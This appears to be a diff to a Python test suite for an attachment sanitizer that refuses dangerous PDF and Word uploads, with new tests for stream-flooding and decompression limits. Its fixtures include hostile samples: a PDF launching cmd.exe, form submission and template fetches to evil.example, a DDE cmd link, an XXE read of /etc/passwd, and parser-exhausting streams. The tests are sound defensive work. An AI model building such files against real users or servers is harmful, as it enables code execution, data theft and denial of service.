@@ -40,6 +40,8 @@ def link(kind: str, target: str, encoding: str = "utf-8") -> bytes:
         (PDF, b"%PDF-1.7 << /S /Launch /F (cmd.exe) >>"),
         (PDF, b"%PDF-1.7 stream\n" + zlib.compress(b"<< /Names << /EmbeddedFiles 1 0 R >> >>")),
         (PDF, b"%PDF-1.7 /Encrypt 1 0 R"),
+        (PDF, b"%PDF-1.7 7 0 obj << /Type /ObjStm /Filter [/ASCIIHexDecode /FlateDecode] >> stream\n789c"),
+        (PDF, b"%PDF-1.7 7 0 obj << /Type /Obj#53tm /Filter /LZWDecode >> stream\n800B"),
         (WORD, office(**{"vbaProject.bin": b"x"})),
         (WORD, office(kinds=b"application/vnd.ms-word.document.macroEnabled.main+xml")),
         (PDF, b"%PDF-1.7 << /AA << /O << /S /SubmitForm /F (http://evil.example) >> >> >>"),
@@ -53,6 +55,18 @@ def link(kind: str, target: str, encoding: str = "utf-8") -> bytes:
         (WORD, office(**{"_rels/settings.xml.rels": link("frame", "file://evil/x", "utf-16")})),
         (WORD, office(**{"../xl/externalLinks/externalLink1.xml": b"<x:ddeLink ddeService='cmd'/>"})),
         (WORD, b"PK\x03\x04 broken"),
+        (WORD, office(kinds=b" " * 1_000_001 + b"macroEnabled")),
+        (
+            WORD,
+            office(**{"_rels/a.rels": b" " * 1_100_000 + link("attachedTemplate", "https://evil.example/x")}),
+        ),
+        (WORD, office(**{"_rels/a.rels": b" " * (upload_rules.MOST_LINKING + 1)})),
+        (
+            WORD,
+            office(**{"document.xml": b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'}),
+        ),
+        (WORD, office(**{"document.xml": '<?xml version="1.0"?><!doctype a>'.encode("utf-16")})),
+        (WORD, office(**{"document.xml": b"<w/>", "Document.xml": b"<w/>"})),
         ("application/msword", b"\xd0\xcf\x11\xe0" + "_VBA_PROJECT".encode("utf-16-le")),
     ],
 )
@@ -78,6 +92,7 @@ def test_an_archive_bomb_is_refused_unopened(monkeypatch: pytest.MonkeyPatch) ->
     ("media_type", "content"),
     [
         (PDF, b"%PDF-1.7 << /Type /Catalog /OpenAction [3 0 R /Fit] >> stream\n" + zlib.compress(b"BT ET")),
+        (PDF, b"%PDF-1.7 7 0 obj << /Type /XObject /Filter /ASCII85Decode >> stream\n87cUR~>"),
         (WORD, office(**{"document.xml": b"<w/>"})),
         (WORD, office(**{"_rels/document.xml.rels": link("hyperlink", "https://www.gov.cn/")})),
         (WORD, office(**{"_rels/settings.xml.rels": link("attachedTemplate", r"file:///C:\Users\a\x.dotm")})),
@@ -90,3 +105,36 @@ def test_plain_documents_are_kept(media_type: str, content: bytes) -> None:
     What people upload every day passes.
     """
     ensure_harmless("x", media_type, content)
+
+
+def test_a_pdf_of_countless_streams_is_refused_before_it_is_unpacked() -> None:
+    """
+    A file of a few megabytes would keep a thread busy for minutes.
+    """
+    with pytest.raises(AttachmentInvalid, match="过于复杂"):
+        ensure_harmless("x", PDF, b"%PDF-1.7 " + b"stream\n" * (upload_rules.MOST_STREAMS + 1))
+
+
+def test_streams_that_break_off_count_against_what_is_looked_into(monkeypatch: pytest.MonkeyPatch) -> None:
+    """
+    Each stream unpacks and then fails: together they cost no more than whole ones.
+    """
+    monkeypatch.setattr(upload_rules, "MOST_INFLATED", 100_000)
+    packed = zlib.compress(b"a" * 60_000)[:-4] + b"....."
+    seen: list[int] = []
+    unpack = upload_rules._unpacked
+    monkeypatch.setattr(upload_rules, "_unpacked", lambda *one: seen.append(1) or unpack(*one))
+
+    ensure_harmless("x", PDF, b"%PDF-1.7 " + (b"stream\n" + packed + b" end") * 50)
+
+    assert len(seen) <= 3
+
+
+def test_what_stands_behind_a_stream_is_not_unpacked_again_and_again() -> None:
+    """
+    A stream that is shorter than the file ends; what it held was looked into.
+    """
+    packed = zlib.compress(b" " * 100_000 + b"/JavaScript")
+
+    with pytest.raises(AttachmentInvalid, match="脚本"):
+        ensure_harmless("x", PDF, b"%PDF-1.7 stream\n" + packed + b" endstream" * 1000)
